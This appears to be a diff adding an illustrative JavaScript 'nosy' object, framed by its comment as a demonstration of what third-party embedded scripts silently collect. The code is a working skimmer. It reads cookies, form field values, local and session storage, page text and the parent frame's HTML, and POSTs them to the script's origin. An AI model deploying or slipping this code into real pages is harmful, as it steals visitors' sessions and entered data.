@@ -1,0 +1,27 @@
+// What such scripts take along without being told: all of the page that they can see. Ours must see nothing.
+const nosy = {
+  origin: new URL(document.currentScript.src).origin,
+  key: new URL(document.currentScript.src).pathname.split('/')[2],
+  seen: () => ({
+    href: location.href,
+    referrer: document.referrer,
+    title: document.title,
+    cookie: document.cookie,
+    text: document.body.innerText,
+    fields: [...document.querySelectorAll('input, textarea, select')].map(({ value }) => value),
+    storage: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
+    above: (() => {
+      try {
+        return parent.document.documentElement.outerHTML;
+      } catch {
+        return 'closed';
+      }
+    })(),
+  }),
+  send: (vendor, body) =>
+    void fetch(`${nosy.origin}/${vendor}/${nosy.key}/collect`, {
+      method: 'POST',
+      keepalive: true,
+      body: JSON.stringify({ ...body, seen: nosy.seen() }),
+    }),
+};
